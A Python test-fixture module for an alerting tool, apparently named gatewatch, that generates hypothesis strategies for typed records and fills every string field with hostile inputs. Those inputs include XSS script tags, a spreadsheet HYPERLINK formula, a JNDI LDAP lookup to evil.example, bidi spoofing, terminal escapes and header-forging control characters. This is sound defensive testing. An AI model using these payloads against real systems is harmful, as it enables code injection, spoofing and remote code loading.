"""Strategies for every typed record, built from the types themselves: a new field is covered the day it is added."""

import types
import typing
from datetime import UTC, datetime
from enum import Enum
from functools import cache

import msgspec
import pytest
from hypothesis import strategies as st

from gatewatch.model import Alert, Detail, Evidence
from gatewatch.providers.catalogue import DETAILS

TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
MOMENTS = st.datetimes(min_value=datetime(1970, 1, 2), max_value=datetime(2100, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001
SCALARS = {
    str: TEXT,
    int: st.integers(-(2**53), 2**53),
    float: st.floats(allow_nan=False, allow_infinity=False),
    bool: st.booleans(),
    datetime: MOMENTS,
}


@cache
def of(kind) -> st.SearchStrategy:
    if kind in SCALARS:
        return SCALARS[kind]
    if isinstance(kind, typing.TypeAliasType):
        return of(kind.__value__)
    origin, arguments = typing.get_origin(kind), typing.get_args(kind)
    if origin is tuple:
        return st.lists(of(arguments[0]), max_size=3).map(tuple)
    if origin is typing.Literal:
        return st.sampled_from(arguments)
    if origin in {types.UnionType, typing.Union}:
        return st.one_of(*(st.none() if argument is types.NoneType else of(argument) for argument in arguments))
    if kind is Detail:
        return st.one_of(*map(of, DETAILS))
    if issubclass(kind, Enum):
        return st.sampled_from(list(kind))
    hints = typing.get_type_hints(kind)
    return st.deferred(lambda: st.builds(kind, **{field.name: of(hints[field.name]) for field in msgspec.structs.fields(kind)}))


@pytest.fixture(scope="session")
def evidence_strategy():
    return of(Evidence)


@pytest.fixture(scope="session")
def alert_strategy():
    return of(Alert)


HOSTILE = {
    "markdown": "**bold** [click](http://evil.example/a) `x`",
    "html": '<script>alert(1)</script><img src=x onerror="a()">',
    "mention": "<at>Security Team</at>",
    "bidi": "user\u202egpj.exe\u2066\u2069",
    "zero width": "ad\u200bmin\ufeff\u2060",
    "control": "a\x00b\x1b[2J\x07c\r\nSubject: forged",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive",
    "tags": "a\U000e0041\U000e0042b",
    "blank letters": "x\u3164\u115f\u2800y",
    "zalgo": "a" + "\u0301" * 50,
    "lone surrogate": "a\ud800b",
    "formula": '=HYPERLINK("http://evil.example","open")',
    "braces": "${jndi:ldap://evil.example/a} {0} %s %n",
    "megabyte": "A" * 1_000_000,
    "wide megabyte": "\U0001f480" * 300_000,
    "escape megabyte": "\u202e" * 300_000,
    "quotes": "\"'\\",
}


def place_everywhere(value, text: str):
    """The same record with every string replaced, ids and enums left alone where they are not strings."""
    if isinstance(value, msgspec.Struct):
        changes = {f: place_everywhere(getattr(value, f), text) for f in value.__struct_fields__}
        return type(value)(**changes)
    if isinstance(value, tuple):
        return tuple(place_everywhere(item, text) for item in value)
    return text if type(value) is str else value


@pytest.fixture(params=HOSTILE.values(), ids=HOSTILE.keys())
def hostile(request) -> str:
    return request.param


@pytest.fixture(scope="session")
def poisoned():
    return place_everywhere
